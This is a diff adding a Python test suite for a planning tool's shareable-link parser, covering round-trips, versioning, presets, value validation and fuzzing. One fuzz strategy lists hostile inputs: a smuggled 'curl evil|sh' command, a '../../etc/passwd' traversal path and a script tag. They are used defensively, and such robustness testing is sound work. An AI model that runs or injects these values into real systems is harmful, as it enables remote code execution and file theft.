@@ -1,0 +1,260 @@
+"""Links: the round trip is the identity, and nothing a link holds can break its reader."""
+
+import json
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlencode
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from planner.plan import FIELDS, Plan
+from planner.plan.link import (
+    MAX_CHARACTERS,
+    MAX_KEYS,
+    fields_of,
+    from_query,
+    from_query_string,
+    from_values,
+    to_query,
+    to_query_string,
+    to_short_query,
+)
+from planner.plan.migrations import VERSION
+from planner.plan.presets import presets
+from random_plans import plans
+
+LINKS = json.loads((Path(__file__).parents[1] / "fixtures" / "links.json").read_text("utf-8"))
+
+
+@settings(deadline=None, max_examples=150)
+@given(plans())
+def test_a_complete_link_reads_back_as_the_same_plan(plan: Plan) -> None:
+    reading = from_query_string("https://headroom.example/plan?" + to_query_string(plan))
+    assert reading.plan == plan
+    assert (reading.problems, reading.notes, reading.unknown) == ((), (), ())
+
+
+@settings(deadline=None, max_examples=150)
+@given(plans())
+def test_a_short_link_reads_back_as_the_same_plan(plan: Plan) -> None:
+    query = to_short_query(plan)
+    reading = from_query(query)
+    assert reading.plan == plan
+    assert (reading.problems, reading.notes) == ((), ())
+    assert reading.preset == query["preset"]
+
+
+def test_a_complete_link_has_the_version_and_every_field() -> None:
+    query = to_query(Plan(), preset="grpo-7b@1")
+    assert set(query) == {"v", "preset", *FIELDS}
+    assert query["gpu_memory_utilization"] == "0.5"
+    assert query["entropy"] == "false"
+    assert query["config"] == ""
+
+
+def test_a_plan_equal_to_a_preset_is_two_keys() -> None:
+    for preset in presets().values():
+        assert to_short_query(preset.plan).keys() == {"v", "preset"}
+
+
+@pytest.mark.parametrize("link", LINKS, ids=lambda link: link["name"])
+def test_released_links_open_for_ever(link: dict[str, Any]) -> None:
+    reading = from_query_string(link["link"])
+    assert reading.plan is not None
+    assert reading.problems == ()
+    assert len(link["fields"]) >= 5
+    for field, value in link["fields"].items():
+        assert getattr(reading.plan, field) == value, field
+    if link.get("complete"):
+        assert link["fields"].keys() == set(fields_of(1)) and reading.notes == ()
+    carried = reading.calibration.factors if reading.calibration else ()
+    found = [[one.rung, one.phase, one.quantity, one.factor, one.trials] for one in carried]
+    assert found == link.get("factors", [])
+
+
+def test_fields_that_are_not_given_are_named_in_a_note() -> None:
+    reading = from_query({"v": str(VERSION), "model": "Qwen/Qwen2.5-1.5B", "gpus": "4"})
+    assert reading.plan is not None
+    assert (reading.plan.model, reading.plan.gpus) == ("Qwen/Qwen2.5-1.5B", 4)
+    assert reading.problems == ()
+    [note] = reading.notes
+    assert f"{len(FIELDS) - 2} fields" in note
+    assert "response_tokens" in note
+
+
+def test_a_bad_value_falls_back_and_the_rest_stands() -> None:
+    reading = from_query(
+        {"v": "1", "preset": "grpo-7b@1", "response_tokens": "many", "gpus": "16", "dtype": "int3"}
+    )
+    assert reading.plan is not None
+    assert reading.plan.gpus == 16
+    assert reading.plan.response_tokens == presets()["grpo-7b@1"].plan.response_tokens
+    assert [problem.field for problem in reading.problems] == ["response_tokens", "dtype"]
+    assert "'many'" in reading.problems[0].message
+
+
+def test_a_combination_that_cannot_be_drops_the_field_that_is_to_blame() -> None:
+    reading = from_query({"preset": "grpo-7b@1", "sharding": "none", "prompt_tokens": "64"})
+    assert reading.plan is not None
+    assert (reading.plan.sharding, reading.plan.prompt_tokens) == ("fsdp2", 64)
+    assert [problem.field for problem in reading.problems] == ["sharding"]
+
+
+def test_unknown_keys_are_reported_with_the_nearest_field() -> None:
+    reading = from_query({"preset": "grpo-7b@1", "respons_tokens": "5", "page": "2"})
+    assert reading.plan == presets()["grpo-7b@1"].plan
+    assert reading.unknown == ("respons_tokens", "page")
+    assert reading.problems[0].fix == "Did you mean response_tokens?"
+    assert from_query({"preset": "grpo-7b@1", "page": "2"}, ignore=("page",)).problems == ()
+
+
+def test_a_key_given_twice_is_reported() -> None:
+    reading = from_query({"preset": "grpo-7b@1", "gpus": ["4", "16"]})
+    assert reading.plan is not None and reading.plan.gpus == 16
+    assert [problem.field for problem in reading.problems] == ["gpus"]
+    assert "2 times" in reading.problems[0].message
+
+
+@pytest.mark.parametrize(
+    ("version", "says"),
+    [
+        ("3", "reads up to version 2"),
+        ("0", "never was"),
+        ("one", "'one'"),
+        ("9" * 40, "99', not the number"),
+    ],
+)
+def test_a_version_we_cannot_read_is_refused_in_a_sentence(version: str, says: str) -> None:
+    reading = from_query({"v": version, "preset": "grpo-7b@1"})
+    assert reading.plan is None
+    [problem] = reading.problems
+    assert problem.field == "v"
+    assert says in problem.message
+
+
+def test_a_preset_we_do_not_have_is_reported_and_the_fields_stand() -> None:
+    reading = from_query({"v": "1", "preset": "grpo-7b@99", "gpus": "16"})
+    assert reading.plan is not None and reading.plan.gpus == 16
+    assert reading.preset == ""
+    assert "grpo-7b@99" in reading.problems[0].message
+    assert "grpo-7b@1" in reading.problems[0].fix
+
+
+def test_a_method_planned_as_another_is_noted() -> None:
+    reading = from_query({"preset": "grpo-7b@1", "method": "dapo"})
+    assert reading.plan is not None and reading.plan.method == "grpo"
+    assert reading.notes == ("dapo needs the memory of grpo and is planned as it.",)
+
+
+@pytest.mark.parametrize("version", [{}, {"v": "1"}])
+@pytest.mark.parametrize("name", ["rloo", "RLOO", "reinforce++", "reinforce-plus-plus"])
+def test_an_old_link_means_grpo_by_a_method_that_came_later(
+    name: str, version: dict[str, str]
+) -> None:
+    reading = from_query({**version, "preset": "grpo-7b@1", "method": name})
+    assert reading.plan == presets()["grpo-7b@1"].plan and reading.problems == ()
+    planned, itself = reading.notes
+    assert planned == f"{name} needs the memory of grpo and is planned as it."
+    assert f"v=2 plans {name.lower()} itself" in itself
+
+
+@pytest.mark.parametrize(
+    ("name", "method"),
+    [("rloo", "rloo"), ("reinforce++", "reinforce++"), ("reinforce-plus-plus", "reinforce++")],
+)
+def test_a_link_of_today_means_the_method_itself(name: str, method: str) -> None:
+    reading = from_query({"v": "2", "preset": "grpo-7b@1", "method": name})
+    assert reading.plan is not None and reading.plan.method == method
+    assert reading.problems == () and len(reading.notes) == (name != method)
+    assert Plan(method=name).method == method
+    assert from_query_string(to_query_string(reading.plan)).plan == reading.plan
+
+
+def test_a_complete_old_link_leaves_nothing_out() -> None:
+    """A field that came with a later version is none that the link's writer forgot."""
+    query = {field: text for field, text in to_query(Plan()).items() if field in fields_of(1)}
+    reading = from_query({**query, "v": "1"})
+    assert (reading.plan, reading.notes, reading.problems) == (Plan(), (), ())
+    assert set(FIELDS) - set(fields_of(1)) == {"reinforce_baseline"}
+    assert "reinforce_baseline" in from_query({**query, "v": "2"}).notes[0]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        {f"k{number}": "" for number in range(MAX_KEYS + 1)},
+        {"config": "A" * (MAX_CHARACTERS + 1)},
+        {"gpus": ["8"] * (MAX_KEYS + 1)},
+    ],
+)
+def test_absurd_sizes_are_refused(query: dict[str, Any]) -> None:
+    for reading in (from_query(query), from_query_string(urlencode(query, doseq=True))):
+        assert reading.plan is None
+        assert [problem.field for problem in reading.problems] == ["link"]
+
+
+@pytest.mark.parametrize("text", ["８", "1_000", "0x10", "1e3", " ", "8.0", "nan", "True", "９９"])
+def test_a_whole_number_is_written_in_plain_digits(text: str) -> None:
+    reading = from_query({"preset": "grpo-7b@1", "prompt_tokens": text})
+    assert [problem.field for problem in reading.problems] == ["prompt_tokens"]
+    assert reading.plan == presets()["grpo-7b@1"].plan
+
+
+@pytest.mark.parametrize("text", ["nan", "inf", "-0.5", "1e999", "0", "1", "1,5", "٠.٥"])
+def test_a_share_is_a_number_inside_its_range(text: str) -> None:
+    reading = from_query({"preset": "grpo-7b@1", "gpu_memory_utilization": text})
+    assert [problem.field for problem in reading.problems] == ["gpu_memory_utilization"]
+
+
+def test_values_of_json_keep_their_own_types() -> None:
+    reading = from_values({"preset": "grpo-7b@1", "gpus": 16, "entropy": True, "steps": "20"})
+    assert reading.plan is not None and reading.problems == ()
+    assert (reading.plan.gpus, reading.plan.entropy, reading.plan.steps) == (16, True, 20)
+    wrong = from_values({"preset": "grpo-7b@1", "gpus": [8], "steps": None, "entropy": 1})
+    assert {problem.field for problem in wrong.problems} == {"gpus", "steps", "entropy"}
+
+
+def test_surrounding_spaces_do_not_matter() -> None:
+    reading = from_query_string("preset=grpo-7b@1&gpus=+16+&model=+Qwen/Qwen2.5-7B%20")
+    assert reading.plan is not None and reading.problems == ()
+    assert (reading.plan.gpus, reading.plan.model) == (16, "Qwen/Qwen2.5-7B")
+
+
+hostile = st.one_of(
+    st.text(max_size=40),
+    st.sampled_from(
+        ("", "<script>", "x; curl evil|sh #", "../../etc/passwd", "-1", "9" * 30, "1e308", "\x00")
+    ),
+)
+
+
+@settings(deadline=None, max_examples=400)
+@given(
+    st.dictionaries(
+        st.one_of(st.sampled_from((*FIELDS, "v", "preset")), st.text(max_size=20)),
+        st.one_of(hostile, st.lists(hostile, max_size=3)),
+        max_size=12,
+    )
+)
+def test_no_query_breaks_the_reader(query: dict[str, str | list[str]]) -> None:
+    reading = from_query(query)
+    assert reading.plan is not None or reading.problems
+    for problem in reading.problems:
+        assert problem.field and problem.message
+        assert "\n" not in problem.sentence and "\x00" not in problem.sentence
+
+
+@settings(deadline=None, max_examples=100)
+@given(st.text(max_size=200))
+def test_no_text_breaks_the_reader(text: str) -> None:
+    reading = from_query_string(text)
+    assert reading.plan is not None or reading.problems
+
+
+@settings(deadline=None, max_examples=60)
+@given(plans())
+def test_what_a_link_says_survives_a_browser(plan: Plan) -> None:
+    """A browser hands values back decoded, one list a key."""
+    assert from_query(parse_qs(to_query_string(plan), keep_blank_values=True)).plan == plan
